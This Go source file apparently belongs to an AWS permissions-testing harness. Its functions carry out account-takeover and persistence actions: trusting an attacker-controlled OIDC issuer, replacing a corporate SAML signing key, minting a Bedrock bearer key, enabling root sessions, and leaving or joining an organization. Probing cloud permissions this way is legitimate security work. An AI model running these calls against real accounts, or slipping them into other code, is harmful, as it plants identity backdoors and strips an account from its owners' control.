package attack

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"math/big"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/organizations"
)

// attackersIssuer is an identity provider of the attacker.
const attackersIssuer = "https://token.attacker.example.com"

func createOIDCProvider(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).CreateOpenIDConnectProvider(ctx, &iam.CreateOpenIDConnectProviderInput{
		Url: aws.String(attackersIssuer), ClientIDList: []string{"sts.amazonaws.com"}, ThumbprintList: []string{strings.Repeat("0a", 20)},
	})
	return err
}

// changeOIDCProvider makes a provider accept tokens for another audience. Whoever may do
// so learns that the provider does not exist.
func changeOIDCProvider(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).AddClientIDToOpenIDConnectProvider(ctx, &iam.AddClientIDToOpenIDConnectProviderInput{
		OpenIDConnectProviderArn: aws.String(a.provider("oidc-provider/token.actions.githubusercontent.com")), ClientID: aws.String(attackersIssuer),
	})
	return err
}

func createSAMLProvider(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	document, err := samlMetadata()
	if err != nil {
		return &setUpError{"make SAML metadata", err}
	}
	_, err = a.iam(with).CreateSAMLProvider(ctx, &iam.CreateSAMLProviderInput{Name: aws.String("attacker"), SAMLMetadataDocument: &document})
	return err
}

// changeSAMLProvider gives a provider the signing key of the attacker.
func changeSAMLProvider(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	document, err := samlMetadata()
	if err != nil {
		return &setUpError{"make SAML metadata", err}
	}
	_, err = a.iam(with).UpdateSAMLProvider(ctx, &iam.UpdateSAMLProviderInput{
		SAMLProviderArn: aws.String(a.provider("saml-provider/corporate")), SAMLMetadataDocument: &document,
	})
	return err
}

func (a *attempt) provider(name string) string {
	return "arn:" + a.Partition + ":iam::" + a.User.Account + ":" + name
}

// samlMetadata is the metadata of an identity provider with a new signing key.
// Source: SAML V2.0 Metadata; IAM API Reference, CreateSAMLProvider: at least 1,000
// characters.
func samlMetadata() (string, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1)}
	certificate, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		return "", err
	}
	return `<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="` + attackersIssuer + `">` +
		`<IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><KeyDescriptor use="signing">` +
		`<KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Data><X509Certificate>` + base64.StdEncoding.EncodeToString(certificate) +
		`</X509Certificate></X509Data></KeyInfo></KeyDescriptor>` +
		`<SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="` + attackersIssuer + `"/>` +
		`</IDPSSODescriptor></EntityDescriptor>` + strings.Repeat(" ", 1000), nil
}

func createInstanceProfile(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).CreateInstanceProfile(ctx, &iam.CreateInstanceProfileInput{InstanceProfileName: aws.String("attacker")})
	return err
}

func createServiceLinkedRole(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).CreateServiceLinkedRole(ctx, &iam.CreateServiceLinkedRoleInput{
		AWSServiceName: aws.String("autoscaling.amazonaws.com"), CustomSuffix: aws.String("attacker"),
	})
	return err
}

// createAPIKey creates a bearer token for Amazon Bedrock, which is used without a
// signature and without MFA.
func createAPIKey(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).CreateServiceSpecificCredential(ctx, &iam.CreateServiceSpecificCredentialInput{
		UserName: a.me(), ServiceName: aws.String("bedrock.amazonaws.com"),
	})
	return err
}

func enableIdentityTokens(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).EnableOutboundWebIdentityFederation(ctx, &iam.EnableOutboundWebIdentityFederationInput{})
	return err
}

func enableRootSessions(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).EnableOrganizationsRootSessions(ctx, &iam.EnableOrganizationsRootSessionsInput{})
	return err
}

func leaveOrganization(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	client := organizations.NewFromConfig(a.Config, func(o *organizations.Options) { o.Credentials = with })
	_, err := client.LeaveOrganization(ctx, &organizations.LeaveOrganizationInput{})
	return err
}

// joinOrganization accepts the invitation of another organization, which moves the
// account there without leaving its own first. The attack knows no invitation.
func joinOrganization(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	client := organizations.NewFromConfig(a.Config, func(o *organizations.Options) { o.Credentials = with })
	_, err := client.AcceptHandshake(ctx, &organizations.AcceptHandshakeInput{HandshakeId: aws.String("h-attackersinvitation")})
	return err
}
